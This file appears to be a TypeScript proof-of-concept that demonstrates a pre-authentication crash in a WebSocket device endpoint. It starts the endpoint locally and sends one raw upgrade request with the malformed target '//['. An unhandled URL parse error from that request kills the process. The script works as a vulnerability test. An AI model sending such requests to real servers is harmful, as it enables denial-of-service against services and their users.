/**
 * Pre-auth crash: the WebSocket listener's 'upgrade' handler parses req.url with `new URL(...)`
 * outside any try (lib/device-endpoint/device-endpoint.ts:111); a request-target Node's HTTP parser
 * accepts but WHATWG URL refuses (`//[`) throws in an event handler = uncaught exception = the
 * process exits. Run: npx tsx attack/ws-upgrade-crash.ts
 */
import net from 'node:net';
import { startDeviceEndpoint } from '../lib/device-endpoint/device-endpoint';
import type { DeviceEndpointStore } from '../lib/device-endpoint/ports';

const store = { addCounts: async () => undefined, refusedCredentials: async () => new Set() } as unknown as DeviceEndpointStore;
const ep = await startDeviceEndpoint({ store, port: 0, wsPort: 0 });
process.on('exit', (code) => console.log(`process exiting with code ${code} (the endpoint — and in \`sluice start\` the console beside it — is gone)`));
console.log(`endpoint up on ws port ${ep.wsPort}; sending one unauthenticated upgrade request with target "//["`);
const s = net.connect(ep.wsPort, '127.0.0.1', () =>
  s.write('GET //[ HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n'),
);
s.on('error', () => undefined);
setTimeout(async () => {
  console.log('still alive after 2 s (not vulnerable)');
  s.destroy();
  await ep.close();
}, 2000);
